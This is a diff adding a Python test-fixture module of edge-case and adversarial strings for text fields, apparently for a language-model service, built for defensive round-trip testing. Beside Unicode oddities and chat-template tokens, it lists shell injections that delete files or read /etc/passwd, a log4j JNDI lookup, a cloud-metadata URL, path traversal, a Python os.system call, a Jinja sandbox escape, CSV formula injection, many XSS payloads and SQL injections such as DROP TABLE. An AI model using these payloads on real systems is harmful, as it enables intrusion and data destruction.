@@ -1,0 +1,202 @@
+"""Texts for every field that holds one: alphabets, controls, invisible characters, markup and other people's syntax."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+MAX_CHARACTERS = 100_000
+
+
+@dataclass(frozen=True)
+class Text:
+    """A text for every field that holds one. 200 means: the same characters come back, byte for byte."""
+
+    name: str
+    text: str
+
+
+def _texts() -> tuple[Text, ...]:
+    controls = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0))))
+    named = {
+        "one space": " ",
+        "one letter": "a",
+        "nul first": "\0a",
+        "nul in the middle": "a\0b",
+        "nul last": "a\0",
+        "only nul": "\0",
+        "every control": controls,
+        "escape sequence": "\x1b[31mred\x1b[0m",
+        "bell and backspace": "a\x07\x08b",
+        "crlf pairs": "a\r\nb\r\n\r\nc",
+        "lone carriage return": "a\rb",
+        "tabs": "\t\ta\t",
+        "byte order mark": "\ufeffa",
+        "line separator": "a\u2028b\u2029c",
+        "next line": "a\u0085b",
+        "replacement character": "a\ufffdb",
+        "noncharacter": "a\uffffb",
+        "last code point": "a\U0010ffffb",
+        "private use": "\ue000\U000f0000",
+        "soft hyphen": "a\u00adb",
+        "word joiner": "a\u2060b",
+        "zero width": "a\u200b\u200c\u200db",
+        "variation selectors": "a\ufe0e\ufe0f",
+        "tag characters": "\U000e0041\U000e007f",
+        "ideographic space": "a\u3000b",
+        "no-break space": "a\u00a0b",
+        "every space": "\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f",
+        "hebrew": "שלום עולם",
+        "arabic": "مرحبا بالعالم",
+        "arabic shaping": "لا إله الله ﷺ",
+        "right-to-left override": "\u202egnp.exe",
+        "nested isolates": "\u2066a\u2067b\u2068c\u2069\u2069\u2069",
+        "unclosed embeddings": "\u202a\u202b\u202d\u202e",
+        "bidi marks": "a\u200eb\u200fc\u061c",
+        "family emoji": "👨‍👩‍👧‍👦",
+        "flag": "🇫🇷🇩🇪",
+        "half a flag": "🇫",
+        "skin tones": "👍🏻👍🏿",
+        "keycap": "1️⃣",
+        "zalgo": "Z" + "\u0351\u036b\u0343" * 30,
+        "combining only": "\u0301\u0302\u0303",
+        "devanagari": "क्षत्रिय नमस्ते",
+        "thai": "สวัสดีชาวโลก",
+        "tamil": "வணக்கம்",
+        "hangul jamo": "\u1112\u1161\u11ab",
+        "cjk extension b": "𠀀𠮷𪛖",
+        "cjk": "法国的首都是",
+        "japanese": "フランスの首都は",
+        "mathematical letters": "𝕳𝖊𝖑𝖑𝖔",
+        "fullwidth": "ＡＢＣ１２３",
+        "ligatures": "ﬁﬂﬃ",
+        "turkish i": "İıIi",
+        "german s": "ẞß",
+        "homoglyphs": "Ρаrіѕ",  # Greek and Cyrillic letters
+        "composed and decomposed": "é e\u0301",
+        "number forms": "½⅓Ⅷ²",
+        "gothic": "𐌰𐌱𐌲",
+        "braille": "⠓⠑⠇⠇⠕",
+        "end of text": "<|endoftext|>",
+        "end of text twice": "a<|endoftext|><|endoftext|>b",
+        "sentence marks": "<s> </s> <pad> <unk> <mask>",
+        "instruction marks": "[INST] <<SYS>> x <</SYS>> [/INST]",
+        "chat marks": "<|im_start|>system\nx<|im_end|>",
+        "begin of text": "<|begin_of_text|><|eot_id|>",
+        "jinja": "{{7*7}}",
+        "jinja escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "jinja block": "{% for x in range(10**9) %}{% endfor %}",
+        "percent format": "%s %d %n %x",
+        "brace format": "{0} {x!r} {0.__class__}",
+        "dollar brace": "${x} $(id) `id`",
+        "plotly template": "%{x} %{customdata[0]}",
+        "tex": "$\\frac{1}{2}$ $$x$$",
+        "log4j": "${jndi:ldap://example.test/a}",
+        "shell": "; rm -rf / #",
+        "shell pipe": "| cat /etc/passwd",
+        "windows shell": "& del *.* &",
+        "path": "../../../../etc/passwd",
+        "windows path": "C:\\Windows\\System32\\",
+        "url": "http://169.254.169.254/latest/meta-data/",
+        "ldap": "*)(uid=*))(|(uid=*",
+        "xpath": "' or '1'='1",
+        "csv formula": "=1+1",
+        "csv command": "=cmd|' /C calc'!A0",
+        "csv at": "@SUM(1+1)",
+        "csv plus": "+1",
+        "csv minus": "-1",
+        "csv tab": "\t=1+1",
+        "json": '{"a": [1, null]}',
+        "json end": '"}]}',
+        "backslashes": "\\\\ \\u0041 \\n",
+        "quotes": "\"'`´‘’“”",
+        "http header": "a\r\nSet-Cookie: a=b",
+        "event stream": "data: x\n\nevent: done\n\n",
+        "safetensors name": "__metadata__",
+        "python": "__import__('os').system('id')",
+        "only punctuation": "!?.,;:",
+        "digits": "12345678901234567890",
+        "long word": "a" * 300,
+        "spaces": " " * 50,
+        "newlines": "\n" * 50,
+    }
+    markup = (
+        "<script>window.__xss=1</script>",
+        "<img src=x onerror=window.__xss=1>",
+        "<svg onload=window.__xss=1>",
+        "<svg><script>window.__xss=1</script></svg>",
+        "<iframe src=javascript:window.__xss=1>",
+        "<a href=javascript:window.__xss=1>x</a>",
+        "<a href='https://example.test'>x</a>",
+        "<math><mi xlink:href='javascript:window.__xss=1'>",
+        "<body onload=window.__xss=1>",
+        "<details open ontoggle=window.__xss=1>",
+        "<input autofocus onfocus=window.__xss=1>",
+        "<style>@import 'https://example.test'</style>",
+        "<link rel=stylesheet href=https://example.test>",
+        "<base href=https://example.test>",
+        "<meta http-equiv=refresh content=0;url=https://example.test>",
+        "<form action=https://example.test><button>x",
+        "<object data=javascript:window.__xss=1>",
+        "<embed src=javascript:window.__xss=1>",
+        "<template><script>window.__xss=1</script></template>",
+        "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
+        "</script><script>window.__xss=1</script>",
+        "</title><script>window.__xss=1</script>",
+        "</textarea><script>window.__xss=1</script>",
+        "<!--<script>",
+        "--><script>window.__xss=1</script>",
+        "<![CDATA[<script>window.__xss=1</script>]]>",
+        "'\"><script>window.__xss=1</script>",
+        "\" onmouseover=\"window.__xss=1",
+        "javascript:window.__xss=1",
+        "&lt;script&gt;window.__xss=1&lt;/script&gt;",
+        "&#60;script&#62;",
+        "<b>bold</b><br><i>x</i>",
+        "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
+        "<ScRiPt>window.__xss=1</sCrIpT>",
+        "<script\x0c>window.__xss=1</script>",
+        "＜script＞window.__xss=1＜/script＞",
+        "expression(window.__xss=1)",
+        "url(javascript:window.__xss=1)",
+    )  # fmt: skip
+    sql = (
+        "' OR 1=1 --",
+        "'; DROP TABLE results; --",
+        "' UNION SELECT key, body FROM results --",
+        "1; ATTACH DATABASE '/tmp/x' AS y; --",
+        "' AND randomblob(1000000000) --",
+        "') OR ('1'='1",
+        "\\'; DELETE FROM analyses; --",
+        "%' AND '%'='",
+        "_%",
+        "'||(SELECT name FROM sqlite_master)||'",
+        "/**/OR/**/1=1",
+        "' OR load_extension('x') --",
+        "\u02bc OR 1=1 --",
+        "'; VACUUM INTO '/tmp/x'; --",
+        "' GROUP BY 1 HAVING 1=1 --",
+    )
+    return (
+        *(Text(name, text) for name, text in named.items()),
+        *(Text(f"markup {number}", text) for number, text in enumerate(markup)),
+        *(Text(f"sql {number}", text) for number, text in enumerate(sql)),
+    )
+
+
+TEXTS = _texts()
+
+TOO_MANY_CHARACTERS = (
+    Text("one character too many", "a" * (MAX_CHARACTERS + 1)),
+    Text("a million of one letter", "a" * 1_000_000),
+    Text("a million spaces", " " * 1_000_000),
+    Text("half a million emoji", "😀" * 400_000),
+)
+"""Refused by their length, before any of it is tokenized."""
+
+TOO_MANY_TOKENS = (
+    Text("a long line", "word " * 10_000),
+    Text("nul to the limit", "\0" * MAX_CHARACTERS),
+    Text("zero width joiners", "\u200d" * 50_000),
+    Text("zalgo to the limit", "Z" + "\u0351" * (MAX_CHARACTERS - 1)),
+)
+"""Within the length, but more tokens than the model reads."""
